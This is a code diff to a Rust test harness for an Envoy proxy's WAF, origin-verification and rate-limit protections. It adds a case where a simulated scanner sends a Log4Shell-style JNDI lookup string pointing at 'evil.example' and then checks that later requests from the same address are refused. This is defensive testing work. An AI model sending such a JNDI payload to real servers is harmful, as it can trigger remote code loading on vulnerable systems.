@@ -207,6 +207,15 @@ fn run(envoy: &Envoy, listener: &str) -> Table {
         let hold = request("POST", &path, "198.19.0.3");
         add("40 seat holds of one client", &exchange(&mut client, &hold));
     }
+    // A scanner, then an honest request from the same address.
+    let attack = request("GET", "/?q=$%7Bjndi:ldap://evil.example/a%7D", "198.19.0.4");
+    exchange(&mut envoy.connect(listener).unwrap(), &attack);
+    let listed = request("GET", "/matches", "198.19.0.4");
+    let mut client = envoy.connect(listener).unwrap();
+    add(
+        "after an attack, the same client",
+        &exchange(&mut client, &listed),
+    );
     table
 }
 
@@ -267,8 +276,9 @@ fn judge(overlay: &str, table: &Table) {
     assert_eq!(attacks.len(), 10, "a kind for each category");
     let visitors = &table["visitors"];
     assert_eq!(visitors.passed, visitors.sent, "{overlay}: {visitors:?}");
-    let (direct, signups, holds) = (
+    let (direct, listed, signups, holds) = (
         &table["not through the CDN"],
+        &table["after an attack, the same client"],
         &table["40 sign-ups of one client"],
         &table["40 seat holds of one client"],
     );
@@ -285,6 +295,7 @@ fn judge(overlay: &str, table: &Table) {
         let blocked = |row: &&Row| row.refused_by("backstop_waf") == row.sent;
         assert!(attacks.iter().all(blocked), "{overlay}: {attacks:?}");
         assert_eq!(direct.refused_by("backstop_origin_verify"), 1);
+        assert_eq!(listed.passed, 0, "{listed:?}");
         assert!(signups.refused_by("backstop_rate_limit") > 0 && signups.passed >= 5);
         assert_eq!(
             (holds.passed, holds.refused_by("backstop_rate_limit")),
